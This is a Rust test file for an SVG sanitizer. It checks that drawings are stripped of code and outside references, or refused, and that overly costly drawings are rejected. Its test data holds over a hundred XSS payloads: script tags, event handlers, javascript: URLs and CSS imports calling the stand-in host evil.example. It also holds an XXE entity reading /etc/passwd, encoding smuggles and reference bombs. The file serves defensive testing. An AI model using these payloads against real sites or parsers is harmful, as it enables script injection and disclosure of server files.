//! Drawings that would run, load or hide something, or cost too much. The published form of each
//! may contain allowed parts only.

use roxmltree::{Document, NodeType};
use ssg_model::problem::{DrawingLimit, Problem};

use super::DrawingRefusal;
use super::names::{ATTRIBUTES, ELEMENTS, WORDS};
use super::tests::read;

const SVG: &str = "http://www.w3.org/2000/svg";
const ROOT: &str = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' \
                    viewBox='0 0 9 9'";

/// Contents of the root element.
const INNER: &[&str] = &[
    // Programs.
    "<script>alert(1)</script>",
    "<script xlink:href='//evil.example/a.js'/>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "<h:script xmlns:h='&#104;ttp://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "<g xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></g>",
    "<defs><g><script type='module'>import '//evil.example/a.js'</script></g></defs>",
    "<title><script>alert(1)</script></title>",
    "<style><script>alert(1)</script></style>",
    "<text>&lt;script>alert&lt;/script></text><script><![CDATA[alert(1)]]></script>",
    "<svg><svg><svg><script>alert(1)</script></svg></svg></svg>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>",
    "<listener xmlns='http://www.w3.org/2001/xml-events' event='load' handler='#a'/>",
    // Handlers.
    "<g onload='alert(1)'/>",
    "<g OnLoad='alert(1)' ONCLICK='alert(1)'/>",
    "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "<image href='#a' onerror='alert(1)'/>",
    "<g onload='&#97;lert(1)'/>",
    "<g onfocus='alert(1)' tabindex='1' autofocus=''/>",
    // HTML.
    "<foreignObject width='9' height='9'><iframe src='//evil.example/'/></foreignObject>",
    "<FOREIGNOBJECT><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></FOREIGNOBJECT>",
    "<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=//evil.example'/>",
    "<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;//evil.example'/>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'/>",
    "<h:base xmlns:h='http://www.w3.org/1999/xhtml' href='//evil.example/'/>",
    "<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='stylesheet' href='//evil.example/'/>",
    "<h:form xmlns:h='http://www.w3.org/1999/xhtml' action='//evil.example'><h:input autofocus='' onfocus='alert(1)'/></h:form>",
    "<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
    "<iframe src='//evil.example'/><embed src='//evil.example'/><object data='//evil.example'/>",
    "<video xmlns='http://www.w3.org/1999/xhtml'><source onerror='alert(1)'/></video>",
    "<audio src='//evil.example' onerror='alert(1)'/>",
    "<math xmlns='http://www.w3.org/1998/Math/MathML' href='javascript:alert(1)'><mi/></math>",
    // References.
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<a xlink:href='JaVa&#10;ScRiPt:alert(1)'/>",
    "<a href='&#1;javascript:alert(1)'/>",
    "<a xmlns:x='http://www.w3.org/1999/xlink' x:href='javascript:alert(1)'/>",
    "<a href='data:text/html,alert(1)'/>",
    "<a href='https://evil.example/' target='_top' ping='//evil.example'/>",
    "<use href='data:image/svg+xml,&lt;svg id=&quot;a&quot; onload=&quot;alert(1)&quot;/>#a'/>",
    "<use xlink:href='//evil.example/a.svg#b'/>",
    "<image href='data:image/svg+xml;base64,PHN2Zy8+evil.example'/>",
    "<image href='//evil.example/a.png'/>",
    "<image href='data:text/html;base64,YWxlcnQoMSk='/>",
    "<image href='data:image/png,alert(1)'/>",
    "<filter><feImage href='//evil.example/a.svg'/></filter>",
    "<filter><feImage xlink:href='data:image/svg+xml,alert(1)'/></filter>",
    "<linearGradient href='//evil.example/a.svg#b'/><pattern href='evil.example.svg#b'/>",
    "<textPath href='//evil.example/a.svg#b'/><mpath href='//evil.example/'/>",
    "<g xml:base='//evil.example/'><use href='#a'/></g>",
    "<cursor href='//evil.example/a.cur'/><g cursor='url(//evil.example/a.cur)'/>",
    "<tref href='//evil.example/a.svg#b'/><color-profile href='//evil.example/'/>",
    "<g href='//evil.example' src='//evil.example' action='//evil.example'/>",
    "<include xmlns='http://www.w3.org/2001/XInclude' href='//evil.example'/>",
    // Animations.
    "<a><set attributeName='href' to='javascript:alert(1)'/></a>",
    "<a><animate attributeName='xlink:href' values='javascript:alert(1)'/></a>",
    "<a><animate attributeName=' HREF' from='x' to='javascript:alert(1)'/></a>",
    "<set attributeName='onload' to='alert(1)'/><set attributeName='onclick' to='alert(1)'/>",
    "<a><set xmlns:x='urn:x' x:attributeName='fill' attributeName='href' to='javascript:alert(1)'/></a>",
    "<image xmlns:x='urn:x' x:href='#a' href='//evil.example'/>",
    "<set attributeName='style' to='fill:url(//evil.example)'/>",
    "<set attributeName='fill' to='url(//evil.example#a)'/>",
    "<animate attributeName='fill' values='red;url(//evil.example#a)'/>",
    "<animate href='//evil.example#a' attributeName='x' by='javascript:alert(1)'/>",
    "<animateMotion><mpath xlink:href='data:image/svg+xml,alert(1)'/></animateMotion>",
    "<discard begin='0s' href='#a' onend='alert(1)'/>",
    // CSS.
    "<style>@import '//evil.example/a.css';</style>",
    "<style>@IMPORT url(//evil.example/a.css);</style>",
    "<style>@im\\70ort '//evil.example/a.css';</style>",
    "<style>a{fill:\\75rl(//evil.example)}</style>",
    "<style>a{fill:u\\\nrl(//evil.example)}</style>",
    "<style>a{b:/*'*/url(//evil.example)/*'*/}</style>",
    "<style>/*</style><style>*/a{b:url(//evil.example)}</style>",
    "<style>a{b:image-set('//evil.example' 1x)}</style>",
    "<style>a{b:-webkit-image-set(url(//evil.example) 1x)}</style>",
    "<style>a{b:src('//evil.example');c:image('//evil.example');d:cross-fade('//evil.example')}</style>",
    "<style>a{--x:url(//evil.example);fill:var(--x)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>",
    "<style>a{width:expression(alert(1));behavior:url(//evil.example);-moz-binding:url(//evil.example)}</style>",
    "<style>@media screen{a{b:url(//evil.example)}}@supports (a:b){a{b:url('//evil.example')}}</style>",
    "<style>@namespace x url(//evil.example);</style>",
    "<style>a{b:url( //evil.example )}c{d:URL(\"//evil.example\")}</style>",
    "<style>a{b:url(data:image/svg+xml,alert(1)evil.example)}</style>",
    "<style>a{b:'\n}@import '//evil.example';{'}</style>",
    "<style>a{b:url(#x';)}@import '//evil.example';</style>",
    "<style type='text/xsl'>@import '//evil.example';</style>",
    "<g style='fill:url(//evil.example#a)'/>",
    "<g style='fill:\\75 rl(//evil.example#a)'/>",
    "<g style=\"background:image-set('//evil.example' 1x)\"/>",
    "<g fill='url(//evil.example#a)' stroke=' URL(&quot;//evil.example#a&quot;)'/>",
    "<g clip-path='url(//evil.example#a)' mask='url(//evil.example#a)' filter='url(//evil.example#a)'/>",
    "<g marker-start='url(//evil.example#a)' d='path(url(//evil.example))'/>",
    // Syntax.
    "<text><![CDATA[ ]]]]><![CDATA[><script>]]>x</text>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<text>]]&gt;&lt;script>alert(2)&lt;/script></text><g onload=\"alert(1)\"/>",
    "<?xml-stylesheet href='//evil.example/a.xsl' type='text/xsl'?>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<g id='\"&gt;&lt;script&gt;' class='&lt;/svg&gt;' onload='alert(1)'/>",
    "<g xmlns:on='urn:x' on:load='alert(1)' on:click='alert(1)'/>",
    "<x:svg xmlns:x='urn:x' onload='alert(1)'><x:script>alert(1)</x:script></x:svg>",
    "<g xmlns=''><script>alert(1)</script></g>",
    "<switch><foreignObject requiredExtensions='x'><p xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'/></foreignObject><g/></switch>",
    "<metadata><script>alert(1)</script></metadata>",
    "<style>&lt;/style>&lt;script>alert&lt;/script></style><g onload='alert(1)'/>",
];

/// Returns whole files that must be refused.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let svg = |inner: &str| format!("<svg {ROOT}>{inner}</svg>");
    let with = |start: &str, inner: &str| format!("{start}{}", svg(inner)).into_bytes();
    let hidden =
        "<text><![CDATA[Á]]><!-- ]]></text><script>alert(1)</script><text><![CDATA[ --> ]]></text>";
    let declared = |name: &str| with(&format!("<?xml version='1.0' encoding='{name}'?>"), hidden);
    let wide = |text: &str, big: bool| -> Vec<u8> {
        let bytes = |unit: u16| if big { unit.to_be_bytes() } else { unit.to_le_bytes() };
        text.encode_utf16().flat_map(bytes).collect()
    };
    let script = "<script>alert(1)</script>";
    let marked = format!("\u{feff}{}", svg(script));
    let lone =
        [b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'><text>\x83]]></text></svg>"
            .to_vec()];
    let mut files: Vec<(&str, Vec<u8>)> = [
        "Shift_JIS",
        "GBK",
        "gb18030",
        "Big5",
        "EUC-KR",
        "EUC-JP",
        "ISO-2022-JP",
        "hz-gb-2312",
        "UTF-7",
        "utf-16",
        "UTF-32",
        "x-user-defined",
        "windows-1252",
        "ISO-8859-1",
        "KOI8-R",
        "IBM037",
        "x",
        "",
    ]
    .into_iter()
    .map(|name| (name, declared(name)))
    .collect();
    files.extend([
        (
            "upper case",
            with("<?xml version=\"1.0\" encoding = \"SHIFT_JIS\" standalone='yes'?>", hidden),
        ),
        ("after a mark", with("\u{feff}<?xml version='1.0' encoding='GBK'?>", hidden)),
        ("UTF-16LE", wide(&marked, false)),
        ("UTF-16BE", wide(&marked, true)),
        ("UTF-16 without a mark", wide(&svg(script), false)),
        ("a lone byte", lone[0].clone()),
        ("an escape", with("", "<text>\u{1b}$B]]&gt;</text>")),
        (
            "UTF-7",
            with(
                "<?xml version='1.0' encoding='utf-7'?>",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            ),
        ),
    ]);
    for doctype in [
        "<!DOCTYPE svg [<!ENTITY x \"&#60;script>alert(1)&#60;/script>\">]>",
        "<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]>",
        "<!DOCTYPE svg [<!ENTITY x \"&#x3c;g onload='alert(1)'/>\">]>",
        "<!DOCTYPE svg [<!ENTITY % x '<!ENTITY y \"z\">'>%x;]>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE svg [<!ENTITY x PUBLIC 'a' '//evil.example/x'>]>",
        "<!DOCTYPE svg [<!ATTLIST g onload CDATA 'alert(1)'>]>",
        "<!DOCTYPE svg [<!ATTLIST svg xmlns:x CDATA 'x'><!ENTITY x 'y'>]>",
        "<!DOCTYPE svg [<!NOTATION x SYSTEM 'y'>]>",
        "<!DOCTYPE svg PUBLIC 'a' 'b' [ <!ENTITY x 'a'> <!ENTITY y '&x;'> ]>",
        "<!DOCTYPE svg SYSTEM \"]><svg>\" [<!ELEMENT svg ANY>]>",
        "<!-- [> --><?x [?><!DOCTYPE svg [<!ENTITY x '&#38;#60;script>'>]>",
        "<!DOCTYPE html><!DOCTYPE svg [<!ENTITY x 'y'>]>",
        "<!doctype svg>",
        "<!DOCTYPE svg [",
        "<!DOCTYPE svg [<!ENTITY x 'y'",
    ] {
        files.push((doctype, with(doctype, "<g onload='alert(1)'/>&x;")));
    }
    files.extend([
        ("a comment that ends early", with("", "<!-- a --!><script>alert(1)</script> -->")),
        ("two dashes", with("", "<!-- a -- b -->")),
        ("a value with markup", with("", "<g id='<script>alert(1)</script>'/>")),
        ("two attributes", with("", "<g id='a' id='b'/>")),
        ("no root", b"<script>alert(1)</script>".to_vec()),
        ("HTML", b"<html xmlns='http://www.w3.org/1999/xhtml'><svg/></html>".to_vec()),
        ("no namespace", b"<svg viewBox='0 0 1 1'><script>alert(1)</script></svg>".to_vec()),
        ("two roots", [svg("").into_bytes(), svg(script).into_bytes()].concat()),
        ("a name of HTML", with("", "<text>&nbsp;&lt;script&colon;</text>")),
        ("nothing", b"<svg".to_vec()),
        ("a zero", with("", "<text>\0</text>")),
    ]);
    files
}

/// Asserts that a published drawing has allowed parts only.
fn check(published: &str, what: &str) {
    for part in ["<!", "<?", "evil.example", "alert(1)", "javascript", "@import", "image-set", "\\"]
    {
        assert!(!published.to_ascii_lowercase().contains(part), "{part} in {published} of {what}");
    }
    let document = Document::parse(published).unwrap();
    for node in document.descendants() {
        match node.node_type() {
            NodeType::Element => {}
            NodeType::Root | NodeType::Text => continue,
            other => panic!("{other:?} in {published} of {what}"),
        }
        let name = node.tag_name();
        assert_eq!(name.namespace(), Some(SVG), "{what}");
        assert!(ELEMENTS.contains(name.name()), "{} of {what}", name.name());
        for attribute in node.attributes() {
            let (name, value) = (attribute.name(), attribute.value());
            let is_known = match attribute.namespace() {
                None => {
                    ATTRIBUTES.contains(name)
                        || WORDS.contains(name)
                        || ["href", "style"].contains(&name)
                }
                Some(_) => ["space", "lang"].contains(&name),
            };
            assert!(is_known && !name.starts_with("on"), "{name} of {what}");
            assert!(name != "href" || value.starts_with('#'), "{value} of {what}");
            assert!(name != "attributeName" || ATTRIBUTES.contains(value), "{value} of {what}");
        }
    }
}

#[test]
fn hostile_drawings_are_published_without_code_and_references() {
    for inner in INNER {
        let what = format!("<svg {ROOT} onload='alert(1)'>{inner}<g id='last'/></svg>");
        match read(what.as_bytes()) {
            Ok(drawing) => {
                check(&drawing.text, inner);
                assert!(drawing.text.contains("<g id=\"last\"/>"), "{}", drawing.text);
            }
            // A character that XML does not allow.
            Err(refusal) => assert!(inner.contains("&#1;"), "{refusal:?} of {inner}"),
        }
    }
    assert!(INNER.len() > 90);
}

#[test]
fn ambiguous_drawings_are_refused() {
    for (what, bytes) in files() {
        let Err(DrawingRefusal { problem, range }) = read(&bytes) else {
            panic!("{what} is published")
        };
        assert_eq!(problem.code(), "C0703", "{what}");
        assert!(range.start <= bytes.len(), "{what}");
    }
}

#[test]
fn text_in_any_language_is_kept() {
    let svg = |start: &str, text: &str| format!("{start}<svg {ROOT}><text>{text}</text></svg>");
    for (start, text) in [
        ("", "Añejo ñandú 保険 𝔖"),
        ("\u{feff}<?xml version='1.0' encoding='utf-8'?>\n", "保険]]&gt;"),
        ("<?xml version=\"1.0\" encoding=\"UTF8\"?>", "é"),
        ("<?xml version='1.0' encoding='ISO-8859-1'?>", "ASCII"),
    ] {
        let drawing = read(svg(start, text).as_bytes()).unwrap();
        assert!(drawing.text.contains(&format!("<text>{text}</text>")), "{}", drawing.text);
        check(&drawing.text, text);
    }
}

/// Returns the limit that a drawing exceeds, and the text at the reported place.
fn limit(svg: &str) -> (DrawingLimit, &str) {
    match read(svg.as_bytes()) {
        Err(DrawingRefusal { problem: Problem::DrawingTooHeavy { limit, .. }, range }) => {
            (limit, &svg[range.start..(range.start + 16).min(svg.len())])
        }
        other => panic!("{:.300}", format!("{other:?}")),
    }
}

fn drawing(inner: &str) -> String {
    format!("<svg {ROOT}>{inner}</svg>")
}

/// Returns a drawing of ten levels, each of which shows the one below ten times.
fn bomb(level: impl Fn(usize, &str) -> String, reference: impl Fn(usize) -> String) -> String {
    let levels = (1..=10).map(|n| level(n, &reference(n - 1).repeat(10)));
    drawing(&format!("{}{}{}", level(0, "<path/>"), levels.collect::<String>(), reference(10)))
}

#[test]
fn expensive_drawings_are_refused_with_their_place() {
    let attributes: String = (0..300).map(|n| format!(" a{n}=''")).collect();
    let svg = drawing(&format!("<g/><path{attributes}/>"));
    assert_eq!(limit(&svg), (DrawingLimit::Attributes, "<path a0='' a1='"));
    let svg = drawing(&format!("<!-- <g a=' -->\n<path{}/>", attributes.replace('\'', "\"")));
    assert_eq!(limit(&svg), (DrawingLimit::Attributes, "<path a0=\"\" a1=\""));
    let svg = drawing(&"<g xmlns:a='b'/>".repeat(300));
    assert_eq!(limit(&svg).0, DrawingLimit::Namespaces);
    let svg = drawing(&("<g>".repeat(58) + "<path/>" + &"</g>".repeat(58)));
    assert!(read(svg.as_bytes()).is_ok());
    let svg = drawing(&("<g>".repeat(58) + "<g><path/></g>" + &"</g>".repeat(58)));
    assert_eq!(limit(&svg), (DrawingLimit::Depth, "<path/></g></g><"));
    let svg = drawing(&"<g/>".repeat(19_999));
    assert!(read(svg.as_bytes()).is_ok());
    let svg = drawing(&("<g/>".repeat(19_999) + "<path id='last'/>"));
    assert_eq!(limit(&svg), (DrawingLimit::Elements, "<path id='last'/"));
    assert_eq!(limit(&drawing(&"<g/>".repeat(900_000))).0, DrawingLimit::Elements);
    assert_eq!(limit(&drawing(&" ".repeat(4_000_000))).0, DrawingLimit::Bytes);
    let mut photo = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x20\0\0\0\x20\0\x08\x06\0\0\0".to_vec();
    photo.extend([0; 16]);
    let photo = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, photo);
    let svg = drawing(&format!("<g/><image href='data:image/png;base64,{photo}'/>"));
    assert_eq!(limit(&svg), (DrawingLimit::Pixels, "href='data:image"));
}

#[test]
fn repeated_parts_count_for_the_limit() {
    let group = |n: usize, inner: &str| format!("<g id='n{n}'>{inner}</g>");
    let svg = bomb(group, |n| format!("<use xlink:href='#n{n}'/>"));
    assert_eq!(limit(&svg), (DrawingLimit::Drawn, "<g id='n4'><use "));
    let part = |kind: &'static str| {
        move |n: usize, inner: &str| format!("<{kind} id='n{n}'>{inner}</{kind}>")
    };
    for svg in [
        bomb(part("pattern"), |n| format!("<path fill='url(#n{n})'/>")),
        bomb(part("pattern"), |n| format!("<path style='a:b;STROKE : URL( \"#n{n}\" )'/>")),
        bomb(part("clipPath"), |n| format!("<g clip-path='url(#n{n})'/>")),
        bomb(part("marker"), |n| format!("<path marker-mid='url(#n{n})' d='M0 0h1v1z'/>")),
        bomb(part("symbol"), |n| format!("<use href='#n{n}'/>")),
        bomb(group, |n| {
            format!("<filter><feImage href='#n{n}'/></filter><g filter='url(#n{n})'/>")
        }),
        // A paint of a group is drawn for each shape within.
        drawing(&format!(
            "<pattern id='p'>{0}</pattern><g fill='url(#p)'>{0}</g>",
            "<path/>".repeat(200)
        )),
        // Through style sheets.
        bomb(part("pattern"), |n| {
            format!("<style>.c{n}, x{{a:b;fill:url(#n{n})}}</style><path class='b c{n}'/>")
        }),
        bomb(part("pattern"), |n| {
            format!("<style>@media all{{#i{n}:hover{{fill:url(#n{n})}}}}</style><path id='i{n}'/>")
        }),
        drawing("<pattern id='p'><g/></pattern><style>*{fill:url(#p)}</style><g/>"),
        drawing(
            "<pattern id='p'><g class='a'/></pattern><style>.a{b:c; &amp; :first-child{d:e} fill:url(#p)}</style><g class='a'/>",
        ),
        // Cycles.
        drawing("<g id='a'><use href='#a'/></g>"),
        drawing("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"),
    ] {
        assert_eq!(limit(&svg).0, DrawingLimit::Drawn, "{svg}");
    }
    for inner in [
        "<linearGradient id='a'><stop/></linearGradient><g fill='url(#a)'><path/></g>",
        "<clipPath id='a'><path/></clipPath><g clip-path='url(#a)'><g clip-path='url(#a)'/></g>",
        "<g id='a'><animate href='#a' attributeName='x'/><a href='#a'/></g>",
        "<style>.a{fill:url(#p)}</style><pattern id='p'><path class='b'/></pattern><path class='a'/>",
    ] {
        assert_eq!(read(drawing(inner).as_bytes()).map(|_| ()), Ok(()), "{inner}");
    }
}

#[test]
fn filters_count_for_the_limit() {
    let blur = "<filter id='f'><feGaussianBlur/></filter>";
    let slow = "<filter id='f'><feMorphology/></filter>";
    let with = |filter: &str, uses: usize| {
        drawing(&(filter.to_owned() + &"<g filter='url(#f)'/>".repeat(uses)))
    };
    assert!(read(with(blur, 60).as_bytes()).is_ok());
    assert!(read(with(slow, 3).as_bytes()).is_ok());
    for svg in [
        with(blur, 200),
        with(slow, 60),
        drawing(&"<g style='filter: blur(1px) drop-shadow(1px 1px)'/>".repeat(100)),
        drawing(&format!("<style>g{{filter:blur(1px)}}</style>{}", "<g/>".repeat(200))),
        drawing(&format!(
            "{slow}<pattern id='p'><g filter='url(#f)'/></pattern><g fill='url(#p)'>{}</g>",
            "<g/>".repeat(9)
        )),
    ] {
        assert_eq!(limit(&svg).0, DrawingLimit::Effects, "{svg}");
    }
}

#[test]
fn results_kept_by_filters_count_for_the_limit() {
    let chain = |part: &dyn Fn(usize) -> String| (0..40).map(part).collect::<String>();
    let steps = |count| {
        let steps = "<feFlood result='r'/>".repeat(count);
        drawing(&format!("<filter id='f'>{steps}</filter><g filter='url(#f)'/>"))
    };
    assert!(read(steps(50).as_bytes()).is_ok());
    for svg in [
        steps(70),
        drawing(&format!(
            "{}<use href='#n0'/>",
            chain(&|n| format!("<g id='n{n}' opacity='.9'><use href='#n{}'/></g>", n + 1))
        )),
        drawing(&format!(
            "{}<path mask='url(#n0)'/>",
            chain(&|n| format!("<mask id='n{n}'><g mask='url(#n{})'/></mask>", n + 1))
        )),
        drawing(&format!(
            "<style>{}</style>{}<path class='c0'/>",
            chain(&|n| format!(".c{n}{{fill:url(#n{n})}}")),
            chain(&|n| format!("<pattern id='n{n}'><path class='c{}'/></pattern>", n + 1))
        )),
    ] {
        assert_eq!(limit(&svg).0, DrawingLimit::Depth, "{svg}");
    }
}

/// Checks that a megabyte of any drawing is read or refused in linear time.
#[test]
fn reading_takes_linear_time() {
    let fill = |part: &str| drawing(&part.repeat(250_000 / part.len()));
    let numbered =
        |part: &dyn Fn(usize) -> String| drawing(&(0..10_000).map(part).collect::<String>());
    let tag = |part: &dyn Fn(usize) -> String| {
        drawing(&format!("<g{}/>", (0..25_000).map(part).collect::<String>()))
    };
    let sheet = |part: &str| format!("<style>{}</style>", part.repeat(250_000 / part.len()));
    for svg in [
        fill("<"),
        fill("="),
        fill("&"),
        fill("<g>"),
        fill("<g/>"),
        fill("<g a=''/>"),
        fill("<!-- -->"),
        fill("<g a='"),
        fill("xmlns"),
        fill("&lt;"),
        fill("<![CDATA[x]]>"),
        fill("<?x?>"),
        fill("<path d='"),
        tag(&|n| format!(" a{n}=''")),
        tag(&|n| format!(" xmlns:a{n}='b{n}'")),
        numbered(&|n| format!("<g id='{n}'/>")),
        numbered(&|n| format!("<g id='{n}'><use href='#{}'/></g>", n + 1)),
        drawing(&sheet("a{fill:url(#a)}")),
        drawing(&sheet("(")),
        drawing(&sheet("a(")),
        drawing(&sheet("@a{}")),
        drawing(&sheet("/*")),
        drawing(&sheet("{")),
        drawing(&sheet("@import 'a';")),
        drawing(&sheet("url(x)")),
        drawing(&sheet("a{(;")),
        drawing(&sheet("é")),
        drawing(&format!(
            "<style>{}{{{}}}</style>{}",
            ".a,".repeat(40_000),
            "fill:url(#a);b{}".repeat(8_000),
            "<g class='a'/>".repeat(2_000)
        )),
        drawing(&format!("{}{}", sheet(".a{mask:url(#a)}"), "<g class='a'/>".repeat(2_000))),
        drawing(&format!("<path d='{}'/>", "M0 0h1".repeat(40_000))),
        format!("<!DOCTYPE svg [{}]>{}", "<!ENTITY a 'b'>".repeat(15_000), drawing("")),
        format!("<!DOCTYPE svg [<!ENTITY a 'b'>]>{}", fill("&a;")),
        format!("<!DOCTYPE svg {}", fill("<!-- ")),
    ] {
        // Quadratic time would take minutes.
        let published = read(svg.as_bytes()).map(|drawing| drawing.text);
        assert!(published.is_err() || published.is_ok_and(|text| text.starts_with("<svg ")));
    }
}
